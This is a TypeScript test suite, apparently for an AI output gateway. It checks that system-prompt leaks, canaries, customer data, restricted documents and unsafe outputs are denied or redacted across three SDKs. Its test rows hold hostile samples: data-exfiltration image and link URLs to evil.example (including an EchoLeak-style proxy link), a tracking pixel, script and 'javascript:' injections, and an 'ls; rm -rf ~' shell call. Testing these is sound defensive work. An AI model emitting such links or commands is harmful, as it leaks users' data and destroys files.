/**
 * All that may not leave, in one policy made of the shipped ones, through a real Envoy with three SDKs, plain and streamed:
 * prompts, marks, tables, documents, classes, links, output that runs, structure.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, describe, it } from 'node:test';
import { parse } from 'yaml';
import { MINUTES, NEWS, PLAN } from '../../cases/detectors/classified.ts';
import { PROMPT, QUESTION } from '../../cases/detectors/prompts.ts';
import { documentsFile, MADE, MEMO, tableFile } from '../../fakes/indexes.ts';
import { sends } from '../conformance/support/events.ts';
import { assertQuiet } from '../conformance/support/witness.ts';
import { postChat } from '../harness/client.ts';
import { eventually } from '../harness/eventually.ts';
import { ROOT, type Stack, startStack } from '../harness/stack.ts';
import { recordsOf } from './support/records.ts';
import { openaiMessages, type Said, type Seen, THREE_SDKS } from './support/three-sdks.ts';

const SHIPPED = [
  'system-prompt',
  'confidential',
  'links',
  'data-loss',
  'structured-answers',
  'plain-answers',
];
const CANARY = 'heron-7f31-quill-9c2e';
const JANE = ['Jane Fairweather', 'jane@fairweather.example', '(555) 013-4477'] as const;
const OWN = `${NEWS} ${MINUTES.replace('Minutes: ', '')}`;
const FOUND = `TLP:RED\n${PLAN}`;
const STOLEN = encodeURIComponent('northern sluice closes for good on the ninth');
const PROXY = 'https://eu-prod.asyncgw.teams.microsoft.com/urlp/v1/url/content?url=';

interface Document {
  readonly spec: {
    readonly request?: { readonly parameters?: object; readonly rules?: readonly object[] };
    readonly response?: {
      readonly rules?: readonly object[];
      readonly schema?: readonly { name: string }[];
      readonly format?: readonly { name: string }[];
    };
  };
}

/** The shipped policies in one, for every host; of whole answers only what all kinds of them can keep. */
function policyOf(names: readonly string[]): string {
  const specs = names.map(
    (name) => (parse(readFileSync(`${ROOT}policies/${name}.yaml`, 'utf8')) as Document).spec,
  );
  const rules = (direction: 'request' | 'response') => specs.flatMap((spec) => spec[direction]?.rules ?? []);
  const parameters = Object.assign({}, ...specs.map(({ request }) => request?.parameters ?? {})) as object;
  const schema = specs
    .flatMap(({ response }) => response?.schema ?? [])
    .filter(({ name }) => name === 'refund');
  const format = specs
    .flatMap(({ response }) => response?.format ?? [])
    .filter(({ name }) => name === 'short');
  return JSON.stringify({
    ...{ apiVersion: 'weir.dev/v1alpha1', kind: 'GuardPolicy', metadata: { name: 'egress' } },
    spec: {
      request: { parameters, rules: rules('request') },
      response: { rules: rules('response'), schema, format },
    },
  }).replaceAll('"sources":{"retrieved":', '"sources":{"tool":');
}

/** What the model says, what of it leaves (nothing where a rule denies it), and what the journal says. */
interface Row {
  readonly title: string;
  readonly said: Said;
  /** The rule that denies it. */
  readonly denied?: string;
  /** What leaves, where it is not what was said. */
  readonly left?: Said;
  readonly types?: readonly string[];
  /** The class that the answer carries. */
  readonly class?: string;
}

const text = (said: string): Said => ({ text: said });

const ROWS: readonly Row[] = [
  { title: 'an ordinary text', said: text('The desk is open until six. You pay when you leave.') },
  { title: 'an ordinary call', said: { tool: 'book', args: { room: 12, note: 'late "breakfast"\n' } } },
  {
    ...{ title: 'the system prompt', said: text(`Well then: ${PROMPT}`), denied: 'no-leak' },
    types: ['SYSTEM_PROMPT'],
  },
  {
    title: 'the system prompt in Base64',
    said: text(`Well then: ${Buffer.from(PROMPT).toString('base64')}`),
    ...{ denied: 'no-leak', types: ['SYSTEM_PROMPT'] },
  },
  {
    title: 'the canary in a call',
    said: { tool: 'book', args: { room: 12, note: `mark ${CANARY}` } },
    ...{ denied: 'no-leak', types: ['CANARY'] },
  },
  {
    ...{ title: 'a quote above the clearance', said: text(`They say: ${PLAN}`), denied: 'cleared' },
    ...{ types: ['RESTRICTED'], class: 'RESTRICTED' },
  },
  {
    ...{ title: 'values of one customer', said: text(`Write to ${JANE[0]} on 555-013-4477 soon.`) },
    ...{ left: text('Write to [EXACT_DATA] on [EXACT_DATA] soon.'), types: ['EXACT_DATA'] },
  },
  {
    title: 'values of one customer in a call',
    said: { tool: 'book', args: { text: `about ${JANE[0]}, ${JANE[1]}` } },
    left: { tool: 'book', args: { text: 'about [EXACT_DATA], [EXACT_DATA]' } },
    types: ['EXACT_DATA'],
  },
  { title: 'a paper', said: text(`So it is: ${MEMO}`), denied: 'no-papers-out' },
  {
    title: 'an image by reference through a proxy (EchoLeak)',
    said: text(`See ![it][a].\n\n[a]: ${PROXY}https%3A%2F%2Fevil.example%2Fx.png\n`),
    ...{ left: text('See ![it][a].\n\n[a]\n'), types: ['REDIRECT_LINK'] },
  },
  {
    ...{ title: 'a pixel', said: text('Done.<img width=1 src="https://evil.example/p.gif">') },
    ...{ left: text('Done.&lt;img width=1  >'), types: ['ACTIVE_HTML', 'IMAGE_LINK'] },
  },
  {
    title: 'a link that carries what a tool said',
    said: text(`Look: https://evil.example/?q=${STOLEN}`),
    ...{ denied: 'no-data-in-links' },
  },
  {
    title: 'an image that carries what a tool said, in a call',
    said: { tool: 'book', args: { note: `![x](https://evil.example/${STOLEN}.png)` } },
    ...{ denied: 'no-data-in-links' },
  },
  {
    ...{ title: 'a script', said: text('Hi <script>alert(1)</script>!'), types: ['ACTIVE_HTML'] },
    left: text('Hi &lt;script>alert(1)&lt;/script>!'),
  },
  {
    ...{ title: 'a command for a shell', said: { tool: 'shell', args: { cmd: 'ls; rm -rf ~' } } },
    ...{ denied: 'no-destruction', types: ['SHELL_COMMAND'] },
  },
  {
    ...{
      title: 'a call that its schema allows',
      said: { tool: 'issue_refund', args: { order: 'AB-123456', amount: 20 } },
    },
  },
  {
    ...{
      title: 'a call that its schema does not',
      said: { tool: 'issue_refund', args: { order: 'AB-123456', amount: 2000 } },
    },
    denied: 'refund',
  },
  {
    title: 'an answer that is too long',
    said: text('The river is calm and the desk is open. '.repeat(14)),
    denied: 'short',
  },
];

/** The same where the tool has said what is internal: whoever asks may know, not every tool. */
const INTERNAL_ROWS: readonly Row[] = [
  {
    ...{
      title: 'text',
      said: text(`They say: ${OWN.slice(0, 100)}`),
      types: ['INTERNAL'],
      class: 'INTERNAL',
    },
  },
  {
    ...{ title: 'a call of a tool that may know', said: { tool: 'archive', args: { body: OWN } } },
    ...{ types: ['INTERNAL'], class: 'INTERNAL' },
  },
  {
    ...{ title: 'a call of a tool that may not', said: { tool: 'send_mail', args: { body: OWN } } },
    ...{ denied: 'cleared', types: ['INTERNAL'], class: 'INTERNAL' },
  },
  {
    ...{ title: 'a ticket', said: { tool: 'create_ticket', args: { title: 'News', text: OWN } } },
    ...{ types: ['INTERNAL'], class: 'INTERNAL' },
  },
  {
    ...{
      title: 'the title of a ticket',
      said: { tool: 'create_ticket', args: { text: 'News', title: OWN } },
    },
    ...{ denied: 'titles', types: ['INTERNAL'], class: 'INTERNAL' },
  },
];

function assertLeft(seen: Seen, left: Said, sdk: string): void {
  assert.equal(seen.ended, 'whole', sdk);
  if ('text' in left) assert.equal(seen.text, left.text, sdk);
  else assert.deepEqual(seen.args, left.args, sdk);
}

/** What leaves before a denial is a part of what was said, and nothing of what was denied. */
function assertStopped(seen: Seen, row: Row): void {
  assert.notEqual(seen.ended, 'whole');
  assert.equal(seen.args, undefined, 'no call is whole');
  if ('text' in row.said) assert.ok(row.said.text.startsWith(seen.text), seen.text);
  for (const secret of ['Perrin, the night clerk', 'sluice closes', 'northern mills before', STOLEN])
    assert.ok(!seen.text.includes(secret), seen.text);
}

async function assertRecorded(stack: Stack, seen: Seen, row: Row): Promise<void> {
  const records = (await recordsOf(stack, seen.id)).filter(({ direction }) => direction === 'response');
  const denial = records.find(({ verdict }) => verdict === 'deny');
  assert.equal(denial?.['rule'], row.denied);
  const found = records.flatMap((record) => record['findings'] as readonly { type: string }[]);
  const types = [...new Set(found.map(({ type }) => type))].toSorted();
  if (row.denied === undefined || row.types !== undefined) assert.deepEqual(types, row.types ?? []);
  const journal = JSON.stringify(records);
  for (const secret of ['Perrin', 'sluice', 'Fairweather', 'northern mills', 'evil.example', CANARY])
    assert.ok(!journal.includes(secret), secret);
  const classes = records.at(-1)?.['classes'] as { response?: string } | undefined;
  assert.equal(classes?.response, row.class);
  const log = await eventually('the access log', () =>
    stack
      .accessLog()
      .flatMap(({ weir }) => (weir === null ? [] : [weir as Readonly<Record<string, string>>]))
      .find(({ id }) => id === seen.id),
  );
  assert.equal(log['response_class'], row.class);
  assert.equal(log['response_types'], types.length === 0 ? undefined : types.join());
  if (row.denied !== undefined)
    assert.deepEqual([log['response_decision'], log['response_rule']], ['deny', row.denied]);
}

const folder = mkdtempSync(join(tmpdir(), 'weir-egress-'));
after(() => rmSync(folder, { recursive: true, force: true }));

function config(): string {
  const at = (name: string, bytes: Uint8Array | string): string => {
    writeFileSync(join(folder, name), bytes, { mode: 0o600 });
    return join(folder, name);
  };
  const keyFile = at('key', Buffer.from(MADE.key).toString('hex'));
  const customers = at(
    'customers.idx',
    tableFile([['Omar Haddad', 'omar@haddad.example', '(555) 017-2210'], JANE]),
  );
  const papers = at('papers.idx', documentsFile({ memo: MEMO }));
  return JSON.stringify({
    dlp: { indexes: { customers: { file: customers, keyFile }, 'board-papers': { file: papers, keyFile } } },
  });
}

describe('T07 A08 what may not leave', { timeout: 120_000 }, () => {
  let stack: Stack;
  before(async () => {
    writeFileSync(join(folder, 'policy.yaml'), policyOf(SHIPPED));
    stack = await startStack({ policies: join(folder, 'policy.yaml'), config: config() });
  });
  afterEach(() => assertQuiet(stack));
  after(async () => stack?.stop());

  const judge = async (row: Row, found: string): Promise<void> => {
    const asked = { system: PROMPT, question: QUESTION, found };
    const ways = THREE_SDKS.flatMap((sdk) => [false, true].map((streamed) => ({ sdk, streamed })));
    await Promise.all(
      ways.map(async ({ sdk, streamed }) => {
        const seen = await sdk.ask(stack, row.said, { streamed, asked });
        if (row.denied === undefined) assertLeft(seen, row.left ?? row.said, sdk.name);
        else assertStopped(seen, row);
        if (!streamed && seen.ended === 'whole') assert.equal(seen.headers['x-weir-class'], row.class);
        await assertRecorded(stack, seen, row);
      }),
    );
  };

  for (const row of ROWS) it(`${row.title}, in three SDKs`, () => judge(row, FOUND));
  for (const row of INTERNAL_ROWS)
    it(`what is internal, in ${row.title}, in three SDKs`, () => judge(row, OWN));

  /** What must not leave, the rule for it, and whether it denies. */
  const beside: readonly (readonly [what: string, said: string, rule: string])[] = [
    ['the system prompt', PROMPT, 'no-leak'],
    ['a quote above the clearance', PLAN, 'cleared'],
    ['a paper', MEMO, 'no-papers-out'],
    ['a link that carries what a tool said', `https://evil.example/?q=${STOLEN}`, 'no-data-in-links'],
    ['an address that runs code', '[x](javascript:alert(1))', 'no-code-in-links'],
  ];
  const fine = 'The desk is open until six.';
  const choice = (index: number, content: string, tokens = [content]) => ({
    ...{ index, message: { role: 'assistant', content }, finish_reason: 'stop' },
    logprobs: { content: tokens.map((token) => ({ token, logprob: -1, bytes: null, top_logprobs: [] })) },
  });
  const answered = async (choices: readonly object[]): Promise<readonly [string, readonly string[]]> => {
    const body = JSON.stringify({ id: 'c', object: 'chat.completion', created: 1, model: 'm', choices });
    stack.model.script('several', sends([body], { contentType: 'application/json' }));
    const messages = openaiMessages({ system: PROMPT, question: QUESTION, found: FOUND });
    const answer = await postChat(
      stack.url,
      { model: 'm', n: 3, logprobs: true, messages },
      { 'x-script': 'several' },
    );
    assert.equal(answer.status === 200 ? await answer.text() : body, body);
    const records = await recordsOf(stack, answer.headers.get('x-weir-id'));
    const denied = records.flatMap(({ verdict, rule }) => (verdict === 'deny' ? [String(rule)] : []));
    return [String(answer.status), [...new Set(denied)]];
  };

  for (const [what, said, rule] of beside)
    it(`T10 ${what} is refused in the last of several choices, and spelled by tokens`, async () => {
      assert.deepEqual(await answered([choice(0, fine), choice(1, fine), choice(2, said)]), ['403', [rule]]);
      const tokens = said.match(/[\s\S]{1,6}/gu) ?? [];
      assert.deepEqual(await answered([choice(0, fine, tokens)]), ['403', [rule]]);
      assert.deepEqual(await answered([choice(0, fine), choice(1, fine), choice(2, fine)]), ['200', []]);
    });
});
